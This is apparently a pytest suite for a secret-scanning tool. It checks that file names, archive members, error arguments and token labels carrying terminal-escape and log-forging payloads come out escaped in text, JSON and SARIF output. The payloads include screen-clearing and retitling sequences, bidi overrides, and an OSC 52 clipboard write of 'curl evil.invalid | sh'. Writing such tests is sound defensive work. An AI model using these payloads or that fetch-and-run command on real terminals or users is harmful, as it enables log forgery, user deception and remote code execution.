"""Untrusted text is escaped wherever it is shown: file names, archive members, paths in errors.

Each attack is a real ``hygiene`` process over real files whose names (or archive members)
carry what a terminal or a CI log would act on: a newline forging a finding or the summary,
ESC sequences retitling (OSC 0) or clearing the screen (CSI 2J), writing the clipboard
(OSC 52), hiding a link (OSC 8), a C1 CSI (U+009B, and the raw byte 0x9B), bidi overrides and
isolates, zero-width and blank letters. The safe outcome: no raw control, C1, bidi or
invisible character in any output, each output has the lines it should, the name is shown
escaped (recognisable), json and SARIF keep the exact name, and no secret anywhere.

The server side (error messages, ``tokens create``) is in ``test_escape_server.py``.
"""

from __future__ import annotations

import base64
import io
import json
import os
import queue
import re
import signal
import subprocess
import sys
import tarfile
import threading
import zipfile
from pathlib import Path
from urllib.parse import unquote_to_bytes

import pytest

from hygiene.detection import PAT_PREFIX
from hygiene.inventory import open_inventory
from tests.helpers import SecretGuard, run_hygiene

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX file names")

_OSC52 = b"\x1b]52;c;" + base64.b64encode(b"curl evil.invalid | sh") + b"\x07"
# name -> the bytes of a file name that attacks the terminal or the log
NAMES: dict[str, bytes] = {
    "forged-finding": b"a\nforged.py:1:1: aic-pat " + PAT_PREFIX.encode() + b"x 000000000000",
    "forged-summary": b"b\nhygiene scan: 0 findings in 0 files, 0 bytes, 0.00 s",
    "carriage-return": b"c\rhygiene scan: 0 findings",
    "osc-title": b"d\x1b]0;pwned\x07.txt",
    "csi-clear": b"e\x1b[2J\x1b[H.txt",
    "osc52-clipboard": b"f" + _OSC52 + b".txt",
    "osc8-link": b"g\x1b]8;;https:evil.invalid\x1b\\link\x1b]8;;\x1b\\.txt",
    "c1-csi-char": "h\u009b2J.txt".encode(),
    "c1-csi-byte": b"i\x9b2J.txt",
    "bidi-override": "j\u202etxt.exe".encode(),
    "bidi-isolate": "k\u2066x\u2069.txt".encode(),
    "zero-width": "l\u200bpat.txt".encode(),
    "hangul-filler": "m\u3164.txt".encode(),
    "del-bell-nul-ish": b"n\x7f\x08\x07.txt",
}

# What must never reach an output raw: C0 controls but the line feed, DEL, C1 controls (as
# UTF-8), bidi embeddings/overrides/isolates and marks, zero-width characters, the BOM, line
# and paragraph separators, Hangul fillers. The outputs must also be valid UTF-8 (a raw 0x9B
# byte is a C1 CSI to many terminals).
RAW = re.compile(
    rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b-\x8f\xa8-\xae]"
    rb"|\xe2\x81[\xa0-\xaf]|\xef\xbb\xbf|\xe3\x85\xa4|\xe1\x85[\x9f\xa0]|\xd8\x9c"
)
LINE = re.compile(r'(?P<path>"(?:[^"\\]|\\.)*"|[^" ]+):(?P<line>\d+):\d+: aic-pat \S+ [0-9a-f]{12}')
SUMMARY = re.compile(r"hygiene scan: \d+ findings? .*")


def assert_inert(*outputs: bytes) -> None:
    """No output holds a raw control, C1, bidi or invisible character; all are UTF-8."""
    for out in outputs:
        found = RAW.search(out)
        assert found is None, f"raw {found.group()!r} reached the output" if found else ""
        out.decode("utf-8")  # strict


def lines_of(out: bytes) -> list[str]:
    return out.decode("utf-8").split("\n")[:-1] if out else []


def _write(folder: Path, name: bytes, text: str) -> None:
    with open(os.path.join(os.fsencode(folder), name), "w", encoding="utf-8") as f:
        f.write(text)


@pytest.fixture
def hostile_tree(tmp_path: Path, guard: SecretGuard) -> Path:
    """One file per hostile name, each holding a fresh PAT."""
    root = tmp_path / "tree"
    root.mkdir()
    for name in NAMES.values():
        _write(root, name, f'token = "{guard.pat()}"\n')
    return root


def test_hostile_file_names_cannot_forge_or_steer_the_text_report(
    hostile_tree: Path, guard: SecretGuard
) -> None:
    proc = run_hygiene(guard, "scan", ".", cwd=hostile_tree)
    assert proc.returncode == 1, proc.stderr
    assert_inert(proc.stdout, proc.stderr)
    lines = lines_of(proc.stdout)
    assert len(lines) == len(NAMES)  # no name made a line of its own
    assert all(LINE.fullmatch(line) for line in lines), lines
    (summary,) = lines_of(proc.stderr)  # one summary line, none forged
    assert SUMMARY.fullmatch(summary)
    assert summary.startswith(f"hygiene scan: {len(NAMES)} findings")
    shown = proc.stdout.decode()
    # escaped, not dropped: each name is still recognisable
    for escaped in ("\\x1b]0;pwned\\x07", "\\u202etxt.exe", "\\u3164", "\\x9b2J", "\\u009b2J"):
        assert escaped in shown


@pytest.mark.parametrize("fmt", ["json", "sarif"])
def test_json_and_sarif_keep_the_exact_names_and_hold_no_raw_character(
    hostile_tree: Path, guard: SecretGuard, fmt: str
) -> None:
    proc = run_hygiene(guard, "scan", ".", "--format", fmt, cwd=hostile_tree)
    assert proc.returncode == 1, proc.stderr
    assert_inert(proc.stdout, proc.stderr)
    doc = json.loads(proc.stdout)
    if fmt == "json":
        paths = {f["path"].removeprefix("./") for f in doc["findings"]}
        for name in NAMES.values():
            if b"\x9b" not in name or "\u009b".encode() in name:  # valid UTF-8: the name itself
                assert name.decode() in paths
        assert '"i\\x9b2J.txt"' in paths  # not UTF-8: the quoted form
    else:
        uris = [
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            for r in doc["runs"][0]["results"]
        ]
        assert {unquote_to_bytes(u) for u in uris} == set(NAMES.values())


def _zip(members: list[bytes], secret: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for member in members:
            # zipfile takes str names; a byte that is not UTF-8 is kept as cp437, as zip does.
            archive.writestr(member.decode("utf-8", "replace"), f"key = {secret}\n")
    return buffer.getvalue()


def _tar(members: list[bytes], secret: str, mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    data = f"key = {secret}\n".encode()
    with tarfile.open(fileobj=buffer, mode=mode, format=tarfile.PAX_FORMAT) as archive:
        for member in members:
            info = tarfile.TarInfo(member.decode("utf-8", "surrogateescape"))
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


INNER = "inner\x1b]0;x\x07\n.zip"
MEMBERS = [name for key, name in NAMES.items() if key != "c1-csi-byte"]


@pytest.mark.parametrize(
    ("archive", "build"),
    [
        ("pkg.zip", lambda members, s: _zip(members, s)),
        ("pkg.tar", lambda members, s: _tar(members, s)),
        ("pkg.tar.gz", lambda members, s: _tar(members, s, "w:gz")),
        ("outer.zip", None),
    ],
)
def test_archive_member_names_cannot_forge_or_steer_the_report(
    tmp_path: Path, guard: SecretGuard, archive: str, build: object
) -> None:
    secret = guard.pat()
    if archive == "outer.zip":  # nested: the inner archive's name and its members both hostile
        inner = _zip(MEMBERS, secret)
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as outer:
            outer.writestr(INNER, inner)
        payload = buffer.getvalue()
    else:
        payload = build(MEMBERS, secret)  # type: ignore[operator]
    (tmp_path / archive).write_bytes(payload)
    text = run_hygiene(guard, "scan", archive, cwd=tmp_path)
    as_json = run_hygiene(guard, "scan", archive, "--format", "json", cwd=tmp_path)
    assert (text.returncode, as_json.returncode) == (1, 1), text.stderr
    assert_inert(text.stdout, text.stderr, as_json.stdout, as_json.stderr)
    lines = lines_of(text.stdout)
    assert len(lines) == len(MEMBERS)
    assert all(LINE.fullmatch(line) and archive + "!" in line for line in lines), lines
    assert len(lines_of(text.stderr)) == 1
    members = {f["member"] for f in json.loads(as_json.stdout)["findings"]}
    inside = INNER + "!" if archive == "outer.zip" else ""
    assert members == {inside + m.decode() for m in MEMBERS}  # json keeps the exact names


def _zip_with_broken_members(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("bad\x1b[2J\nhygiene scan: 0 findings.gz", b"\x1f\x8b\x08\x00garbage" * 8)
        archive.writestr("nested\x1b]0;t\x07\u202e.zip", b"PK\x03\x04broken")


def test_errors_naming_archive_members_are_escaped_one_line_each(
    tmp_path: Path, guard: SecretGuard
) -> None:
    _zip_with_broken_members(tmp_path / "z.zip")
    proc = run_hygiene(guard, "scan", "z.zip", cwd=tmp_path)
    assert proc.returncode == 2
    assert_inert(proc.stdout, proc.stderr)
    lines = lines_of(proc.stderr)
    assert len(lines) == 3  # two errors and the summary: no line forged
    assert [ln.startswith("hygiene: error: z.zip!") for ln in lines] == [True, True, False]
    assert SUMMARY.fullmatch(lines[-1])
    assert "bad\\x1b[2J\\nhygiene scan" in lines[0]


# How a hostile name reaches an error message: (arguments, the program).
EVIL = "x\x1b]0;pwned\x07\x1b[2J\u202e\u009b\nhygiene scan: 0 findings"
ERROR_CASES: dict[str, tuple[list[str], str]] = {
    "scan-path": (["scan", EVIL], "hygiene"),
    "scan-baseline": (["scan", ".", "--baseline", EVIL], "hygiene"),
    "scan-config": (["scan", ".", "--config", EVIL], "hygiene"),
    "scan-output": (["scan", "empty", "--output", f"{EVIL}/report.json"], "hygiene"),
    "mask-file": (["mask", EVIL], "hygiene"),
    "revoke-report": ([EVIL], "revoke-leaked"),
    "revoke-ids-from": (["--ids-from", EVIL], "revoke-leaked"),
    "revoke-token-id": (["--token-id", EVIL], "revoke-leaked"),
    "click-choice": (["scan", "--format", EVIL], "hygiene"),
}


@pytest.mark.parametrize("case", sorted(ERROR_CASES))
def test_a_hostile_name_in_an_error_message_is_escaped_on_one_line(
    case: str, tmp_path: Path, guard: SecretGuard
) -> None:
    args, prog = ERROR_CASES[case]
    (tmp_path / "empty").mkdir()
    proc = run_hygiene(guard, *args, cwd=tmp_path, prog=prog)
    assert_inert(proc.stdout, proc.stderr)
    errors = [ln for ln in lines_of(proc.stderr) if ": error: " in ln]
    assert proc.returncode == 2, proc.stderr
    assert len(errors) == 1, proc.stderr
    assert len([ln for ln in lines_of(proc.stderr) if ln.startswith("hygiene scan:")]) <= 1
    assert "Traceback" not in proc.stderr.decode()
    assert "\\x1b]0;pwned\\x07" in errors[0] or "not shown" in errors[0]


def test_a_secret_in_a_file_name_is_masked_in_the_error(tmp_path: Path, guard: SecretGuard) -> None:
    secret = guard.pat()
    proc = run_hygiene(guard, "scan", f"{secret}\x1b[2J.txt", cwd=tmp_path)
    assert proc.returncode == 2
    assert_inert(proc.stderr)
    (line,) = lines_of(proc.stderr)
    assert PAT_PREFIX + "\N{HORIZONTAL ELLIPSIS}" in line


def test_install_hooks_shows_a_hostile_hooks_path_escaped(
    git_repo: Path, guard: SecretGuard
) -> None:
    hooks = "hooks\x1b]0;pwned\x07\u202e\ndone"
    subprocess.run(["git", "config", "core.hooksPath", hooks], cwd=git_repo, check=True)
    (git_repo / hooks).mkdir()
    proc = run_hygiene(guard, "install-hooks", cwd=git_repo)
    assert proc.returncode == 0, proc.stderr
    assert_inert(proc.stdout, proc.stderr)
    lines = lines_of(proc.stdout)
    assert len(lines) == 2  # pre-commit and pre-push, one line each
    assert all("\\x1b]0;pwned\\x07\\u202e\\ndone" in line for line in lines)


HOSTILE_LABEL = (
    "ci\x1b]0;pwned\x07\u202e\n" + "tok_forged  active  2030-01-01  sha256:000000000000  x"
)


def test_tokens_list_shows_hostile_names_and_scopes_escaped_one_row_each(
    tmp_path: Path, guard: SecretGuard
) -> None:
    inventory = tmp_path / "inventory.sqlite3"
    with open_inventory(inventory) as inv:
        for number in range(3):
            inv.add(
                f"tok_{number}",
                guard.pat(),
                name=HOSTILE_LABEL,
                scopes=["safes:read", "\x1b[2J\u2066scope\x9b"],
                expires_at=None,
            )
    env = {"HYGIENE_INVENTORY": str(inventory)}
    proc = run_hygiene(guard, "tokens", "list", env=env)
    assert proc.returncode == 0, proc.stderr
    assert_inert(proc.stdout, proc.stderr)
    lines = lines_of(proc.stdout)
    assert len(lines) == 4  # the header and one row per token
    assert all("ci\\x1b]0;pwned\\x07\\u202e\\ntok_forged" in line for line in lines[1:])
    as_json = run_hygiene(guard, "tokens", "list", "--format", "json", env=env)
    assert_inert(as_json.stdout)
    names = {t["name"] for t in json.loads(as_json.stdout)["tokens"]}
    assert names == {HOSTILE_LABEL}  # json keeps the exact name


def test_tokens_register_echoes_no_hostile_name(tmp_path: Path, guard: SecretGuard) -> None:
    env = {"HYGIENE_INVENTORY": str(tmp_path / "inventory.sqlite3")}
    value = guard.pat()
    proc = run_hygiene(
        guard,
        "tokens",
        "register",
        "--token-id",
        "tok_1",
        "--name",
        HOSTILE_LABEL,
        input=value.encode(),
        env=env,
    )
    assert proc.returncode == 0, proc.stderr
    assert_inert(proc.stdout, proc.stderr)
    listed = run_hygiene(guard, "tokens", "list", env=env)
    assert_inert(listed.stdout, listed.stderr)
    assert len(lines_of(listed.stdout)) == 2


def _first_line(proc: subprocess.Popen[bytes], timeout: float = 60.0) -> bytes:
    """The first line ``proc`` prints, read on a thread (bounded, never a verdict on time)."""
    lines: queue.Queue[bytes] = queue.Queue()
    assert proc.stdout is not None
    stdout = proc.stdout
    threading.Thread(target=lambda: lines.put(stdout.readline()), daemon=True).start()
    return lines.get(timeout=timeout)


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_watch_shows_a_hostile_file_name_escaped_on_one_line(
    tmp_path: Path, guard: SecretGuard, fmt: str
) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    name = NAMES["forged-finding"] + NAMES["osc52-clipboard"] + NAMES["bidi-override"]
    _write(logs, name, f"Authorization: Bearer {guard.session_token()}\n")
    proc = subprocess.Popen(
        [sys.executable, "-m", "hygiene", "watch", "--from-start", "--format", fmt, name],
        cwd=logs,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        first = _first_line(proc)
    finally:
        proc.send_signal(signal.SIGTERM)
        rest, err = proc.communicate(timeout=60)
    guard.capture(first, rest, err)
    assert proc.returncode == 0, err
    assert_inert(first, rest, err)
    assert rest == b""  # one leak, one line: the name made no other
    if fmt == "json":
        assert json.loads(first)["path"] == name.decode()
    else:
        assert b"\\x1b]52;c;" in first
        assert b"\\u202etxt.exe" in first
        assert re.fullmatch(rb'"[^\n]*":1:\d+: bearer-token \S+ [0-9a-f]{12}\n', first)


def test_detect_secrets_hook_shows_a_hostile_file_name_escaped(
    git_repo: Path, guard: SecretGuard
) -> None:
    name = NAMES["osc-title"] + NAMES["bidi-override"] + b".py"
    _write(git_repo, name, f'c = Client(token="{guard.pat()}")\n')
    proc = subprocess.run(
        [sys.executable, "-m", "hygiene.commands.detect_secrets_hook", name.decode()],
        cwd=git_repo,
        capture_output=True,
        env={**os.environ, "CLICOLOR_FORCE": "1"},  # detect-secrets' own colours stay
        timeout=120,
        check=False,
    )
    guard.capture(proc.stdout, proc.stderr)
    assert proc.returncode == 1, proc.stderr
    colours = re.compile(rb"\x1b\[(?:0|1|41|91|92|95)m")
    assert_inert(colours.sub(b"", proc.stdout), colours.sub(b"", proc.stderr))
    assert b"d\\x1b]0;pwned\\x07.txtj\\u202etxt.exe.py" in proc.stdout


@pytest.mark.parametrize("fmt", ["text", "json", "sarif"])
def test_a_member_name_that_is_not_utf8_is_shown_quoted_in_every_format(
    tmp_path: Path, guard: SecretGuard, fmt: str
) -> None:
    (tmp_path / "t.tar").write_bytes(_tar([NAMES["c1-csi-byte"], NAMES["osc-title"]], guard.pat()))
    proc = run_hygiene(guard, "scan", "t.tar", "--format", fmt, cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert_inert(proc.stdout, proc.stderr)
    assert b"\\ud" not in proc.stdout.lower()  # no lone surrogate escape strict parsers refuse
    if fmt == "text":
        assert len(lines_of(proc.stdout)) == 2
    elif fmt == "json":
        members = {f["member"] for f in json.loads(proc.stdout)["findings"]}
        assert members == {'"i\\x9b2J.txt"', NAMES["osc-title"].decode()}
